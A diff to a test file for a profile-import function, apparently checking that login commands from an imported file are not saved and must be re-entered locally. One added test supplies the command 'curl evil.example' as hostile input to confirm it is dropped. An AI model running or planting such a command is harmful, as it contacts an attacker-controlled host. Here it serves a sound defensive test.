@@ -88,7 +88,7 @@ describe('importProfiles', () => {
       source: 'x.json',
       secrets: memoryStore,
     });
-    expect(report).toEqual({ added: ['a', 'b'], replaced: [], skipped: [], renamed: [], secretsNeeded: [], commandsLeftOut: [] });
+    expect(report).toEqual({ added: ['a', 'b'], replaced: [], skipped: [], renamed: [], secretsNeeded: [], commandsNeeded: [] });
     expect((await store.list()).profiles).toEqual(all);
   });
 
@@ -195,7 +195,14 @@ describe('logins of others', () => {
       source: 'a.json',
       secrets: memoryStore,
     });
-    expect(report.commandsLeftOut).toEqual(['pg']);
-    expect(await saved()).toEqual({ method: 'password' });
+    expect(report.commandsNeeded).toEqual(['pg']);
+    // It stays a login by a token, whose program the person here enters.
+    expect(await saved()).toEqual({ method: 'command' });
+    await importProfiles(store, file({ method: 'command', command: 'curl evil.example' }), {
+      mode: 'replace',
+      source: 'a.json',
+      secrets: memoryStore,
+    });
+    expect(await saved()).toEqual({ method: 'command' });
   });
 });
